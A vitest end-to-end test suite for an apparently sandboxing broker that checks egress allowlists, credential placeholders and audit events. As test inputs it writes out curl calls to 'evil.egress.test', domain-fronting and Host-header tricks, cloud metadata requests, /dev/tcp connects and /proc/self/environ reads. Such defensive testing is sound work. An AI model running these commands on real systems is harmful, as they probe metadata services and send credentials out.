import { createServer as createNetServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Broker } from '../../src/broker/broker.js';
import type { EgressEvent } from '../../src/egress/types.js';
import { assertNoneLeft, docker, dockerConfig, installs } from '../helpers/docker-e2e.js';
import { createEgressHosts, type EgressHosts, type Seen } from '../helpers/egress-hosts.js';
import { describeNetns, type TestNet } from '../helpers/netns.js';

/*
 * Egress through the broker on real docker sandboxes: a profile with an allowlist and a secretless
 * credential, real HTTP and HTTPS servers on test hosts (a network namespace with public-looking
 * addresses, named through egress.hosts, certificates of their own test CA that the proxy is told
 * to trust), and curl inside the sandbox (the debian image: `berth image build --variant debian`).
 */

const DEBIAN_IMAGE = 'berth-sandbox:latest';
const GH_VALUE = 'ghp_REAL_value_that_never_enters_the_sandbox';
const USER_42_VALUE = 'ghp_user_42_own_value_never_in_a_sandbox';

/**
 * A TCP service on every address of this host (as a database or berth's own port would be), counting
 * what it accepts; `others` are the host's non-loopback IPv4 addresses.
 */
async function hostService(): Promise<{ port: number; others: string[]; accepted(): number; close(): void }> {
  let accepted = 0;
  const server = createNetServer((s) => {
    accepted++;
    s.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', () => resolve()));
  const others = Object.values(networkInterfaces()).flat().filter((a) => a !== undefined && a.family === 'IPv4' && !a.internal).map((a) => a!.address);
  return { port: (server.address() as { port: number }).port, others, accepted: () => accepted, close: () => server.close() };
}

describeNetns('egress on docker sandboxes (allowlist, credentials)', () => {
  // One broker for the suite (its sandboxes are one per session), cleaned up at the end.
  const reg = installs('berth-egress-docker-');
  let hosts: EgressHosts;
  let net: TestNet;
  let seen: Seen[];
  const events: EgressEvent[] = [];
  let broker: Broker;
  let apiIp: string;

  beforeAll(async () => {
    const images = await docker.listImages({ filters: { reference: [DEBIAN_IMAGE] } });
    if (images.length === 0) throw new Error(`image ${DEBIAN_IMAGE} is missing; build it with: node bin/berth.js image build --variant debian`);
    hosts = await createEgressHosts({ gitToken: GH_VALUE });
    ({ net, seen } = hosts);
    apiIp = hosts.addresses.api;
    const install = reg.track();
    const config = dockerConfig({
      docker: { image: DEBIAN_IMAGE },
      egressProxy: { upstreamCaFile: hosts.caFile },
      profiles: {
        bot: {
          egress: {
            mode: 'allowlist',
            allow: ['api.egress.test', 'other.egress.test'],
            hosts: hosts.hostsEntry(),
          },
          credentials: { GITHUB_TOKEN: { from: 'TEST_GH_VALUE', hosts: ['api.egress.test'] } },
        },
        // No egress section: open, as every profile was before egress existed.
        plain: { docker: { image: DEBIAN_IMAGE } },
      },
    });
    broker = await install.open(config, { env: { PATH: process.env['PATH'], TEST_GH_VALUE: GH_VALUE, BERTH_USER_TELEGRAM_42_TEST_GH_VALUE: USER_42_VALUE } });
    broker.observe({ callEnded: () => {}, refused: () => {}, reaped: () => {}, egress: (e) => events.push(e) });
  }, 180_000);

  afterAll(async () => {
    await reg.cleanupAll();
    await assertNoneLeft(reg.ids);
    await hosts?.close();
  });

  const run = async (session: string, command: string) => broker.session({ profile: 'bot', session }).exec(command);

  it('an allowed name answers over HTTPS and HTTP, with the real value put in upstream while the sandbox holds a placeholder', async () => {
    const r = await run('s1', [
      'curl -sS https://api.egress.test/gh -H "Authorization: Bearer $GITHUB_TOKEN"',
      'curl -sS http://api.egress.test/plain',
      'printf "%s\\n" "${GITHUB_TOKEN:0:9}"',
      'grep -c ghp_REAL /proc/self/environ; true',
    ].join('; '));
    expect(r.stderr).toBe('');
    expect(r.stdout.split('\n')).toEqual(['hello from api.egress.test', 'hello from api.egress.test', 'berth-ph-', '0', '']);
    const gh = seen.find((s) => s.url === '/gh');
    expect(gh?.authorization).toBe(`Bearer ${GH_VALUE}`);
    expect(events.some((e) => e.allowed && e.host === 'api.egress.test' && e.credentials.includes('GITHUB_TOKEN'))).toBe(true);
  });

  it('git clone with the placeholder in the URL arrives upstream with the real value (Basic auth), and the clone has no value in it', async () => {
    const r = await run('s5', [
      'cd /tmp && git clone -q "https://x-access-token:$GITHUB_TOKEN@api.egress.test/repo.git" repo 2>&1; echo "clone $?"',
      'cat /tmp/repo/README',
      'grep -rc ghp_REAL /tmp/repo/.git/config; true',
    ].join('; '));
    expect(r.stdout.split('\n')).toEqual(['clone 0', 'hello from the test repo', '0', '']);
    const basic = `Basic ${Buffer.from(`x-access-token:${GH_VALUE}`).toString('base64')}`;
    expect(seen.some((s) => s.url?.startsWith('/repo.git/') === true && s.authorization === basic)).toBe(true);
  });

  it('anything else is refused with the proxy\'s 403 naming the host, and audited', async () => {
    const r = await run('s2', [
      'curl -sS -o /dev/null https://evil.egress.test/ 2>&1; echo "exit $?"',
      `curl -sS -o /dev/null https://${apiIp}/ 2>&1; echo "exit $?"`,
      'curl -sS http://169.254.169.254/ 2>&1 | head -c 300; echo',
    ].join('; '));
    expect(r.stdout).toMatch(/CONNECT tunnel failed, response 403/);
    expect(r.stdout).toMatch(/exit 56/);
    expect(r.stdout).toMatch(/berth egress: .*169\.254\.169\.254/);
    const refused = events.filter((e) => !e.allowed);
    expect(refused.map((e) => e.host)).toEqual(expect.arrayContaining(['evil.egress.test', apiIp, '169.254.169.254']));
  });

  it('a credential host that echoes the real value back: the output shows it redacted, and a snapshot of a sandbox that kept it is refused, naming the credential, never the value', async () => {
    const r = await run('echoed', 'curl -sS https://api.egress.test/echo-authorization -H "Authorization: Bearer $GITHUB_TOKEN" | tee /workspace/echoed; echo "placeholder $GITHUB_TOKEN"');
    expect(r.stdout).not.toContain(GH_VALUE);
    expect(r.stdout.split('\n')[0]).toBe('Bearer [REDACTED]');
    // The placeholder is redacted too (berth prints neither).
    expect(r.stdout.split('\n')[1]).toBe('placeholder [REDACTED]');
    const err = await broker.session({ profile: 'bot', session: 'echoed' }).snapshots.create({ name: 'with-echo' }).then(() => undefined, (e: unknown) => e);
    expect((err as { code?: string } | undefined)?.code).toBe('policy_refused');
    expect((err as Error).message).toContain('/workspace/echoed holds the real value of credential GITHUB_TOKEN (the sandbox holds only its placeholder: a credential host sent the value back)');
    expect((err as Error).message).not.toContain(GH_VALUE);
    expect(broker.snapshots.list('local', { profile: 'bot', session: 'echoed' })).toEqual([]);
  });

  it('from inside the sandbox: a ClientHello naming another host than the CONNECT (domain fronting) and a Host header naming another host are refused, and nothing reaches upstream', async () => {
    const before = seen.length;
    const r = await run('fronting', [
      'curl -sS -o /dev/null --connect-to evil.egress.test:443:api.egress.test:443 https://evil.egress.test/ 2>&1 | tail -c 120; echo " tls $?"',
      'curl -sS -H "Host: evil.egress.test" http://api.egress.test/; echo " host $?"',
    ].join('; '));
    expect(r.stdout).toMatch(/curl: \(35\) .*alert access denied\n tls/);
    expect(r.stdout).toContain('berth egress: api.egress.test:80 refused (host mismatch: the Host header names evil.egress.test)');
    expect(seen.slice(before)).toEqual([]);
    expect(events.some((e) => !e.allowed && e.host === 'api.egress.test' && e.rule === 'fronting')).toBe(true);
  });

  it('the placeholder sent to another allowed host is refused as exfiltration', async () => {
    const before = seen.length;
    const r = await run('s3', 'curl -sS http://other.egress.test/x -H "Authorization: Bearer $GITHUB_TOKEN"; echo "exit $?"');
    expect(r.stdout).toMatch(/berth egress/);
    expect(seen.slice(before).some((s) => s.host === 'other.egress.test')).toBe(false);
    expect(events.some((e) => !e.allowed && e.host === 'other.egress.test' && e.rule === 'exfiltration')).toBe(true);
  });

  it('no DNS and no route: a lookup, a raw TCP connect and a UDP send all fail inside the sandbox', async () => {
    const r = await run('s4', [
      'getent hosts api.egress.test >/dev/null; echo "dns $?"',
      `timeout 5 bash -c 'echo x > /dev/tcp/${apiIp}/443' 2>/dev/null; echo "tcp $?"`,
      `timeout 5 bash -c 'echo x > /dev/udp/${apiIp}/53' 2>/dev/null; echo "udp $?"`,
      'ip -o link 2>/dev/null | grep -vc " lo:" || cat /proc/net/dev | tail -n +3 | grep -vc "lo:"',
    ].join('; '));
    expect(r.stdout).toMatch(/^dns [1-9]/m);
    expect(r.stdout).toMatch(/^tcp [1-9]/m);
    expect(r.stdout).toMatch(/^udp [1-9]/m);
    expect(r.stdout.trim().split('\n').at(-1)).toBe('0');
  });

  it('a user\'s own value goes out for that user\'s sandbox only; another user\'s sandbox sends the global one', async () => {
    const call = (user: string, path: string) => broker.session({ profile: 'bot', user }).exec(`curl -sS https://api.egress.test/${path} -H "Authorization: Bearer $GITHUB_TOKEN"`);
    expect((await call('telegram:42', 'u42')).stdout).toBe('hello from api.egress.test\n');
    expect((await call('telegram:43', 'u43')).stdout).toBe('hello from api.egress.test\n');
    expect(seen.find((s) => s.url === '/u42')?.authorization).toBe(`Bearer ${USER_42_VALUE}`);
    // The user's own variable (the credential's source) is not also granted as a plain variable.
    const inside = await broker.session({ profile: 'bot', user: 'telegram:42' }).exec('cat /proc/self/environ | tr "\\0" "\\n" | grep -c -e ghp_ -e "^TEST_GH_VALUE="; true');
    expect(inside.stdout).toBe('0\n');
    expect(seen.find((s) => s.url === '/u43')?.authorization).toBe(`Bearer ${GH_VALUE}`);
  });

  it('open mode (the default): the internet answers, no service of the host nor the metadata address does', async () => {
    const hostPort = await hostService();
    try {
      const gateway = (await broker.session({ profile: 'plain', session: 'o1' }).exec("ip route 2>/dev/null | awk '/default/ {print $3}' || awk '$2 == \"00000000\" {print $3}' /proc/net/route")).stdout.trim();
      const targets = [`${gateway}:${hostPort.port}`, `${net.hostAddress}:${hostPort.port}`, ...hostPort.others.map((a) => `${a}:${hostPort.port}`), '169.254.169.254:80'];
      const r = await broker.session({ profile: 'plain', session: 'o1' }).exec([
        `curl -sS --max-time 5 http://${apiIp}/open; echo "internet $?"`,
        ...targets.map((t) => `curl -sS --max-time 5 -o /dev/null http://${t}/ 2>/dev/null; echo "${t} $?"`),
      ].join('; '));
      expect(r.stdout).toContain('hello from');
      expect(r.stdout).toMatch(/^internet 0$/m);
      for (const t of targets) expect(r.stdout).toMatch(new RegExp(`^${t.replace(/\./g, '\\.')} [1-9]`, 'm'));
      expect(hostPort.accepted()).toBe(0);
    } finally {
      hostPort.close();
    }
  });

  it('explain shows the policy and the credential\'s hosts, never its value or placeholder', () => {
    const b = broker.explain({ profile: 'bot', session: 's1' });
    expect(b.egress.mode).toBe('allowlist');
    expect(b.egress.proxy).toBe(true);
    expect(b.egress.credentials).toEqual([{ name: 'GITHUB_TOKEN', hosts: ['api.egress.test'] }]);
    expect(JSON.stringify(b)).not.toContain(GH_VALUE);
    expect(JSON.stringify(b)).not.toContain('berth-ph-');
  });
});
